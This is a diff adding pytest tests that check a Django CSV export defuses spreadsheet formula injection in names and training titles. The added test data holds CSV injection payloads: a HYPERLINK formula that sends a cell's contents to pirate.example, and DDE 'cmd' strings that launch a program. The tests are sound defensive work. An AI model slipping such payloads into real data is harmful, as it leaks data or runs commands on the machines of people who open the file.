@@ -4,6 +4,7 @@ the writer, the job's progress and failure, the progress page, who may download,
 import csv
 import datetime as dt
 import io
+from decimal import Decimal
 
 import pytest
 from django.db import connection
@@ -89,6 +90,47 @@ def test_first_module_gives_the_main_organisme():
     export.ecrire_csv(Dossier.objects.order_by("pk"), sortie)
     organismes = {ligne["Numéro"]: ligne["Organisme de formation principal"] for ligne in lire(sortie.getvalue())}
     assert organismes == {interne.numero: "Formation interne", externe.numero: "ECOLE DES METIERS", sans.numero: ""}
+
+
+# OWASP's dangerous first characters, each in a value an adhérent may type (a name, a first name, a title…).
+INJECTIONS = [
+    '=HYPERLINK("http://pirate.example/?"&A1;"Cliquez ici")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SOMME(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("valeur", INJECTIONS)
+def test_a_typed_formula_is_written_as_text(valeur):
+    """Each dangerous prefix gets a ``'`` (Excel shows the text, evaluates nothing); the separator, the quotes and
+    the line breaks stay correctly quoted: the cell reads back whole, in its column."""
+    (dossier,) = transmis()
+    Salarie = type(dossier.salarie)
+    Salarie.objects.filter(pk=dossier.salarie.pk).update(nom_naissance=valeur, prenom=valeur)
+    type(dossier.formation).objects.filter(pk=dossier.formation.pk).update(intitule=valeur)
+    sortie = io.StringIO(newline="")
+    export.ecrire_csv(Dossier.objects.order_by("pk"), sortie)
+    (ligne,) = lire(sortie.getvalue())
+    for colonne in ("Nom de naissance", "Prénom", "Formation"):
+        assert ligne[colonne] == "'" + valeur
+    assert ligne["Numéro"] == dossier.numero  # the columns did not shift
+    for cellule in ligne.values():
+        assert not cellule or cellule[0] not in "=+-@\t\r"
+
+
+def test_numbers_the_portal_formats_stay_numbers():
+    """A negative amount (``-12,50``) is a number, no formula: left as it is; anything else starting with ``-`` is
+    text."""
+    assert export.neutraliser(export._montant(Decimal("-12.50"))) == "-12,50"
+    assert export.neutraliser("-3") == "-3"
+    assert export.neutraliser("1234,56") == "1234,56"
+    assert export.neutraliser("-1,5+2") == "'-1,5+2"
+    assert export.neutraliser("-") == "'-"
+    assert export.neutraliser("Dupont-Martin") == "Dupont-Martin"
+    assert export.neutraliser("") == ""
 
 
 # -- the job -------------------------------------------------------------------------------------------------
